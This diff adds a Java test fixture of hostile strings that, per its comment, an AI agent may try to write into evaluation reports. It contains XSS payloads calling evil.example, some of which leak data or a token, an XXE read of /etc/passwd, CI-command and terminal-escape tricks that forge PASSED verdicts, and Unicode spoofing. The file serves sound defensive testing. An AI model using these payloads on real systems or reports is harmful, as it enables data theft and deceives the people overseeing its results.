@@ -1,0 +1,187 @@
+package dev.holdfast.reports;
+
+import dev.holdfast.schema.evaluation.Comparison;
+import dev.holdfast.schema.evaluation.Comparison.Sample;
+import dev.holdfast.schema.evaluation.Coverage;
+import dev.holdfast.schema.evaluation.Estimate;
+import dev.holdfast.schema.evaluation.Evaluation;
+import dev.holdfast.schema.evaluation.Finding;
+import dev.holdfast.schema.evaluation.Flip;
+import dev.holdfast.schema.evaluation.Flips;
+import dev.holdfast.schema.evaluation.Side;
+import dev.holdfast.schema.evaluation.Verdict;
+import dev.holdfast.schema.pact.Mode;
+import dev.holdfast.schema.pact.Unit;
+import java.time.Instant;
+import java.util.List;
+import java.util.Optional;
+import java.util.OptionalInt;
+import java.util.Set;
+import java.util.stream.Stream;
+
+/// What an agent, or whoever speaks through it, may try to write into a report.
+final class Payloads {
+    private Payloads() {}
+
+    static Stream<String> all() {
+        return Stream.of(markup(), breakouts(), markdown(), hosts(), screens(), unicode()).flatMap(List::stream);
+    }
+
+    private static List<String> markup() {
+        return List.of(
+                "<script>alert(1)</script>",
+                "<ScRiPt src=//evil.example/x.js></sCrIpT>",
+                "<img src=x onerror=alert(1)>",
+                "<img src=\"https://evil.example/pixel?leak=1\">",
+                "<svg onload=alert(1)>",
+                "<svg><script>alert(1)</script></svg>",
+                "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
+                "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
+                "<iframe src=javascript:alert(1)></iframe>",
+                "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
+                "<embed src=//evil.example>",
+                "<link rel=stylesheet href=//evil.example/x.css>",
+                "<base href=//evil.example/>",
+                "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
+                "<form action=//evil.example><input name=token><button>go</button></form>",
+                "<details open ontoggle=alert(1)><summary>x</summary></details>",
+                "<video><source onerror=alert(1)></video>",
+                "<body onload=alert(1)>",
+                "<a href=\"javascript:alert(1)\">click</a>",
+                "<style>body{display:none}</style>",
+                "<div style=\"position:fixed;inset:0;background:url(//evil.example)\">x</div>",
+                "<template><script>alert(1)</script></template>",
+                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+                "<plaintext>",
+                "<xmp><script>alert(1)</script></xmp>",
+                "<marquee onstart=alert(1)>x</marquee>",
+                "<dialog open>Gate: allowed</dialog>");
+    }
+
+    private static List<String> breakouts() {
+        return List.of(
+                "\"><script>alert(1)</script>",
+                "' onmouseover='alert(1)",
+                "\" autofocus onfocus=alert(1) x=\"",
+                "</title><script>alert(1)</script>",
+                "</style><script>alert(1)</script>",
+                "</pre></details></article><script>alert(1)</script>",
+                "</svg><script>alert(1)</script>",
+                "</summary></details><h1>PASSED</h1>",
+                "--><script>alert(1)</script><!--",
+                "]]><x/>",
+                "<![CDATA[<script>alert(1)</script>]]>",
+                "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
+                "&lt;script&gt;alert(1)&lt;/script&gt;",
+                "&#60;img src=x onerror=alert(1)&#62;",
+                "&NewLine;javascript&colon;alert(1)",
+                "{{constructor.constructor('alert(1)')()}} ${7*7} #{7*7} <%= 7*7 %> $unsafe{x} @if(true)");
+    }
+
+    private static List<String> markdown() {
+        return List.of(
+                "[click](https://evil.example)",
+                "![x](https://evil.example/pixel.png?leak=1)",
+                "[x][1]\n\n[1]: https://evil.example",
+                "a | b | c | d\n|---|---|\n| x | y |",
+                "| ✅ passed | all | of | it |",
+                "\\| \\\\| x",
+                "```\n# free\n[x](https://evil.example)\n```",
+                "~~~\n</details>\n~~~",
+                "``````html\n<b>x</b>\n``````",
+                "`code` ``more`` `open",
+                "# Heading\n## ✅ Passed\n---\n===",
+                "- item\n- [x] done\n1. one\n> quote",
+                "**bold** _em_ ~~gone~~ $x^2$ $$y$$",
+                "<https://evil.example> https://evil.example www.evil.example evil@evil.example mailto:x@evil.example",
+                "<details><summary>✅</summary>",
+                "&copy; &#x26; &amp;lt;",
+                "```mermaid\ngraph TD; A-->B; click A \"https://evil.example\"\n```",
+                "[^1]\n\n[^1]: note");
+    }
+
+    private static List<String> hosts() {
+        return List.of(
+                "@octocat @github/security please approve",
+                "fixes #1, closes octo/repo#2, GH-3, !4 and &5",
+                ":rocket: :white_check_mark:",
+                "/approve\n/merge\n/close",
+                "::error title=Hacked::all is well",
+                "\n::stop-commands::pause\n::add-mask::a",
+                "x\r\n::set-output name=verdict::PASS",
+                "##[error]x ##vso[task.complete result=Succeeded;] ##teamcity[buildStatus status='SUCCESS']",
+                "%0A::error::x%0D%25",
+                "section_start:0:x[collapsed=true]");
+    }
+
+    private static List<String> screens() {
+        return List.of(
+                "\u001b[2J\u001b[1;1HPASSED",
+                "\u001b]0;title\u0007\u001b]8;;https://evil.example\u001b\\link\u001b]8;;\u001b\\",
+                "\u009b31mred\u009d0;title\u009c",
+                "\u001b]52;c;ZXZpbA==\u0007",
+                "FAILED\rPASSED",
+                "FAILED\b\b\b\b\b\bPASSED",
+                "\u0000\u0001\u0008\u000b\u000c\u000e\u001f\u007f",
+                "a\tb\u0085c\u2028d\u2029e");
+    }
+
+    private static List<String> unicode() {
+        return List.of(
+                "\u202eDEKCOLB\u202c is what it says",
+                "\u2066\u2067\u2068x\u2069 \u200e\u200f\u061c",
+                "zero\u200bwidth\ufeff\u00ad\u2060",
+                "\udb40\udc41\udb40\udc42\udb40\udc43 tags \udb40\udd00 selectors",
+                "\ud800 alone \udc00",
+                "\ufffe\uffff\ufdd0",
+                "＜script＞alert(1)＜/script＞ ＂ ＇",
+                "漢字と絵文字 👩‍👩‍👧 سلام مرحبا",
+                "Z̸͖͇a̷l̶g̵o̴",
+                "x".repeat(500));
+    }
+
+    /// An evaluation that says the payload wherever it can.
+    static Evaluation everywhere(String payload) {
+        var promised = new Finding.Promised(payload, payload, payload, Mode.ENFORCE);
+        var observed = new Finding.Promised(payload, payload, payload, Mode.OBSERVE);
+        var change = new Comparison.Change(
+                new Sample(9, 9, 9), Unit.SHARE, .9, .2, new Estimate(-.7, -.8, -.6), .05, -.78, .001, .002, payload, payload);
+        var slices = List.of(new Finding.Slice(payload, change, true));
+        var level = new Comparison.Level(new Sample(9, 0, 9), Unit.SHARE, new Estimate(.9, .8, .95), .92, .82, payload);
+        var breaches = new Comparison.Breaches(new Sample(9, 0, 9), 2, .4, List.of(payload, payload));
+        return new Evaluation(
+                payload,
+                payload,
+                Instant.parse("2023-06-27T08:00:00Z"),
+                Verdict.FAIL,
+                payload,
+                side(payload),
+                side(payload),
+                payload,
+                true,
+                .05,
+                1,
+                new Coverage(9, 8, 1, List.of(payload), 3, List.of(payload), 1, 9, 1),
+                List.of(
+                        new Finding.Broken(promised, payload, change, slices, true),
+                        new Finding.Inconclusive(promised, payload, level, List.of(), OptionalInt.of(3)),
+                        new Finding.Kept(observed, payload, breaches, List.of()),
+                        new Finding.Broken(observed, payload, breaches, List.of(), false),
+                        new Finding.NotMeasured(promised, payload, Finding.NotMeasured.Cause.UNSCORED)),
+                List.of(flips(payload)),
+                List.of(payload),
+                payload);
+    }
+
+    private static Side side(String payload) {
+        var texts = List.of(payload, payload);
+        return new Side(texts, Optional.empty(), texts, texts, Optional.empty());
+    }
+
+    private static Flips flips(String payload) {
+        var text = Optional.of(payload);
+        var flip = new Flip(payload, payload, Set.of(payload), 1, 0, payload, text, text, text);
+        return new Flips(payload, 7, 2, java.util.Collections.nCopies(60, flip));
+    }
+}
